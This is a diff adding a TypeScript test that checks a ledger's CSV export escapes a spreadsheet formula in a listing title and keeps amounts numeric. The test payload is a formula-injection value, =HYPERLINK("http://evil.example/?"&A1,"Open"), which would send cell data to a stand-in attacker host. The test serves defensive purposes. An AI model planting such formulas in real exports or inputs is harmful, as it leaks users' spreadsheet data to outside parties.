@@ -13,6 +13,13 @@ import { changeListingPlan } from "../../server/listings/change-plan.server.ts";
 import { planWaitFor } from "../../server/payments/plan-wait.server.ts";
 import { db } from "../../server/runtime.server.ts";
 import { refusal } from "../support/refusal.ts";
+import { RouterContextProvider } from "react-router";
+import { loader as ledgerCsvLoader } from "../../app/routes/resources/credits-ledger-csv.ts";
+import { requestContext } from "../../app/lib/request-context.ts";
+import { sessionContext } from "../../app/lib/session-context.ts";
+import { parseCsv } from "../../domain/csv.ts";
+import { signIn } from "../../server/accounts/sign-in.server.ts";
+import { readRequestActor } from "../../server/auth/request-actor.server.ts";
 
 const move = (userId: string, amountCents: number, kind: "purchase" | "spend" | "adjustment" | "refund" = amountCents > 0 ? "purchase" : "spend") =>
   db().transaction((tx) => addLedgerEntry(tx, { userId, amountCents, kind }));
@@ -115,6 +122,29 @@ describe("the credit ledger", () => {
     expect((await creditLedgerLines(user.id)).lines).toHaveLength(22);
     // Another user's page is theirs alone.
     expect((await creditLedgerLines((await createUser(db())).id, 1)).total).toBe(0);
+  });
+});
+
+describe("the ledger's CSV", () => {
+  it("writes a listing title a spreadsheet would run as a formula as text, and the app's own amounts as numbers", async () => {
+    const user = await createUser(db());
+    const listing = await createListing(db(), { ownerId: user.id, title: '=HYPERLINK("http://evil.example/?"&A1,"Open")' });
+    await move(user.id, 5_000);
+    await db().transaction((tx) => addLedgerEntry(tx, { userId: user.id, amountCents: -1_250, kind: "spend", propertyId: listing.id }));
+    const { cookies } = await signIn({ email: user.email, password: user.password }, { clientAddress: "192.0.2.40", headers: new Headers() });
+    const actor = await readRequestActor(new Headers({ cookie: cookies.map((cookie) => cookie.split(";")[0]).join("; ") }));
+    const context = new RouterContextProvider();
+    context.set(sessionContext, { state: actor.state, user: actor.user, expired: actor.expired });
+    context.set(requestContext, { requestId: "test", cspNonce: "", locale: "en", clientAddress: "192.0.2.40" });
+    const response = (await ledgerCsvLoader({ request: new Request("http://localhost/credits/ledger.csv"), params: {}, context } as never)) as Response;
+    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString("utf8");
+    const [, spend] = parseCsv(text);
+    expect(spend).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
+    expect(spend).toContain("-12.50");
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
 
